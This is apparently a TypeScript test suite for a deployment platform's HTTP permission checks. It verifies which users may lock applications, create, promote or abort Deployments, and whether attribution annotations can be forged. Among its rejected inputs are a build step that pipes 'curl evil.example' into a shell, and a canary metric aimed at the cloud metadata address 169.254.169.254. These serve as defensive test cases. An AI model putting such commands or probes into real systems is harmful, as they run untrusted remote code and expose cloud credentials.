/** What whoever may deploy may do to an Application and to a Deployment, and what the server says in their stead. */
import { ABORT, LOCK, MADE_BY, PROMOTE } from '../../api-types/kinds/deployment.js';
import { type AccessServer, grant, person, withServer } from '../build/access.js';
import { SOURCE, application } from '../build/deployments.js';
import { API, type HttpAnswer } from '../build/server.js';
import { ref } from '../fake/objects.js';
import { assert, suite } from '../suite.js';

const test = suite('who may deploy, over HTTP');

const APPLICATIONS = `${API}/namespaces/shop/applications`;
const DEPLOYMENTS = `${API}/namespaces/shop/deployments`;

interface Scene extends AccessServer {
  readonly deployer: string;
  readonly manager: string;
  readonly viewer: string;
}

const scene = (body: (scene: Scene) => Promise<void>) =>
  withServer(async (server) => {
    const { objects } = server;
    application(objects);
    const someone = (name: string, level: string): string => {
      grant(objects, name, { user: name, level });
      return person(objects, name);
    };
    const deployer = someone('dora', 'deploy');
    await body({ ...server, deployer, manager: someone('mia', 'manage'), viewer: someone('vic', 'show') });
  });

const patch = ({ ask }: AccessServer, path: string, token: string, body: object): Promise<HttpAnswer> =>
  ask('PATCH', path, { token, body, type: 'application/merge-patch+json' });

const annotated = (annotations: Readonly<Record<string, string | null>>): object => ({
  metadata: { annotations },
});

const lockIn = ({ objects }: AccessServer): Record<string, string> => {
  const text = objects.get(ref('Application', 'shop', 'web'))?.annotations[LOCK];
  return text === undefined ? {} : (JSON.parse(text) as Record<string, string>);
};

test(
  'whoever may deploy may lock and unlock, and change nothing else of an application',
  scene(async (server) => {
    const { deployer, viewer, manager } = server;
    const at = `${APPLICATIONS}/web`;
    assert.is((await patch(server, at, viewer, annotated({ [LOCK]: 'sale' }))).code, 403);
    assert.is((await patch(server, at, deployer, annotated({ [LOCK]: 'sale' }))).code, 200);
    assert.equal([lockIn(server)['reason'], lockIn(server)['by']], ['sale', 'dora']);
    for (const body of [
      { spec: { source: { ...SOURCE, url: 'https://evil.example/web.git' } } },
      { spec: { build: ['curl evil.example | sh'] } },
      { metadata: { labels: { a: 'b' } } },
      annotated({ other: 'x' }),
      { spec: { releasesToKeep: 1 }, ...annotated({ [LOCK]: null }) },
    ]) {
      const { code, text } = await patch(server, at, deployer, body);
      assert.is(code, 403, text);
      assert.match(text, /needs manage/);
    }
    const put = async (token: string, more: object) => {
      const { json } = await server.ask('GET', at, { token });
      return server.ask('PUT', at, { token, body: { ...json, ...more } });
    };
    assert.is((await put(deployer, {})).code, 200, 'what changes nothing');
    assert.is((await put(deployer, { spec: { type: 'php', source: SOURCE } })).code, 403);
    assert.is((await server.ask('DELETE', at, { token: deployer })).code, 403);
    assert.is((await patch(server, at, deployer, annotated({ [LOCK]: null }))).code, 200);
    assert.equal(lockIn(server), {});
    assert.is((await patch(server, at, manager, { spec: { releasesToKeep: 3 } })).code, 200);
  }),
);

test(
  'who locked, and when, is what the server says; the same reason again is the same lock',
  scene(async (server) => {
    const at = `${APPLICATIONS}/web`;
    const forged = JSON.stringify({ reason: 'mine', by: 'root', at: '1999-01-01T00:00:00Z' });
    assert.is((await patch(server, at, server.deployer, annotated({ [LOCK]: forged }))).code, 200);
    const first = lockIn(server);
    assert.equal([first['reason'], first['by']], ['mine', 'dora']);
    assert.ok(!first['at']?.startsWith('1999'));
    assert.is((await patch(server, at, server.manager, annotated({ [LOCK]: 'mine' }))).code, 200);
    assert.equal(lockIn(server), first);
    assert.is((await patch(server, at, server.manager, annotated({ [LOCK]: 'other' }))).code, 200);
    assert.is(lockIn(server)['by'], 'mia');
    for (const reason of ['', ' ', '{"reason":""}', 'x'.repeat(501)])
      assert.is((await patch(server, at, server.manager, annotated({ [LOCK]: reason }))).code, 422);
  }),
);

const deployment = (more: object = {}): object => ({
  metadata: { name: 'web-1', ...more },
  spec: { application: 'web', command: 'deploy' },
});

test(
  'who made a Deployment is what the server says, then and later',
  scene(async (server) => {
    const { deployer, manager, viewer, ask, objects } = server;
    const madeBy = (name = 'web-1') => objects.get(ref('Deployment', 'shop', name))?.annotations[MADE_BY];
    assert.is((await ask('POST', DEPLOYMENTS, { token: viewer, body: deployment() })).code, 403);
    const forged = deployment({ annotations: { [MADE_BY]: 'mia', a: 'b' } });
    assert.is((await ask('POST', DEPLOYMENTS, { token: deployer, body: forged })).code, 201);
    assert.is(madeBy(), 'dora');
    const at = `${DEPLOYMENTS}/web-1`;
    for (const value of ['mia', null])
      assert.is((await patch(server, at, manager, annotated({ [MADE_BY]: value }))).code, 200);
    assert.is(madeBy(), 'dora');
    const raw = ref('Deployment', 'shop', 'web-2');
    objects.putRaw(raw, { spec: { application: 'web', command: 'deploy' } });
    await patch(server, `${DEPLOYMENTS}/web-2`, manager, annotated({ [MADE_BY]: 'mia', a: 'b' }));
    assert.is(madeBy('web-2'), undefined, 'nobody claims what was put by hand');
    const applied = await ask('PATCH', `${DEPLOYMENTS}/web-3?fieldManager=kubectl`, {
      token: deployer,
      body: { apiVersion: 'scalarium.dev/v1', kind: 'Deployment', ...deployment({ name: 'web-3' }) },
      type: 'application/apply-patch+yaml',
    });
    assert.is(applied.code, 201, applied.text);
    assert.is(madeBy('web-3'), 'dora');
  }),
);

test(
  'promote and abort are for whoever may deploy; what it does stays what it was made with',
  scene(async (server) => {
    const { deployer, viewer, ask } = server;
    await ask('POST', DEPLOYMENTS, { token: deployer, body: deployment() });
    const at = `${DEPLOYMENTS}/web-1`;
    assert.is((await patch(server, at, viewer, annotated({ [ABORT]: 'now' }))).code, 403);
    assert.is((await patch(server, at, deployer, annotated({ [ABORT]: 'now', [PROMOTE]: 'now' }))).code, 200);
    assert.is((await patch(server, at, deployer, { spec: { revision: 'other' } })).code, 422);
    assert.is((await ask('DELETE', at, { token: deployer })).code, 403);
  }),
);

test(
  'a metric that only a Deployment names is for whoever may edit its application',
  scene(async (server) => {
    const { deployer, manager, ask, objects } = server;
    const metric = { url: 'http://169.254.169.254/', query: 'up', below: 1 };
    const measured = (name: string, application = 'web'): object => ({
      metadata: { name },
      spec: {
        ...{ application, command: 'restart', roles: ['app'] },
        strategy: { type: 'canary', canary: { hosts: 1, metric } },
      },
    });
    const refused = await ask('POST', DEPLOYMENTS, { token: deployer, body: measured('web-1') });
    assert.is(refused.code, 403, refused.text);
    assert.match(refused.text, /spec\.strategy\.canary\.metric .* needs manage in role app in cluster shop/);
    assert.is((await ask('POST', DEPLOYMENTS, { token: manager, body: measured('web-1') })).code, 201);
    const at = `${DEPLOYMENTS}/web-1`;
    assert.is((await patch(server, at, deployer, annotated({ [PROMOTE]: 'now' }))).code, 200);
    grant(objects, 'roy', { user: 'roy', level: 'manage', roles: ['app'] });
    const roy = person(objects, 'roy');
    objects.has(ref('Application', 'shop', 'both'), {
      spec: { type: 'nodejs', source: SOURCE, roles: ['app', 'db'] },
    });
    for (const [name, code] of [
      ['both', 403],
      ['web', 201],
    ] as const)
      assert.is(
        (await ask('POST', DEPLOYMENTS, { token: roy, body: measured(`${name}-2`, name) })).code,
        code,
      );
  }),
);

test(
  'a grant for one role deploys what only that role runs',
  withServer(async (server) => {
    const { objects, ask } = server;
    const token = person(objects, 'rob');
    grant(objects, 'rob', { user: 'rob', level: 'deploy', roles: ['app'] });
    application(objects);
    objects.has(ref('Application', 'shop', 'both'), {
      spec: { type: 'nodejs', source: SOURCE, roles: ['app', 'db'] },
    });
    const making = async (spec: object): Promise<number> =>
      (await ask('POST', DEPLOYMENTS, { token, body: { metadata: { generateName: 'x-' }, spec } })).code;
    assert.is(await making({ application: 'web', command: 'deploy' }), 201);
    assert.is(await making({ application: 'both', command: 'deploy' }), 403);
    assert.is(await making({ application: 'both', command: 'deploy', roles: ['app'] }), 403);
    assert.is(await making({ application: 'both', command: 'restart', roles: ['app'] }), 201);
    assert.is(await making({ application: 'both', command: 'restart' }), 403);
    assert.is(await making({ application: 'gone', command: 'deploy', roles: ['app'] }), 403);
  }),
);
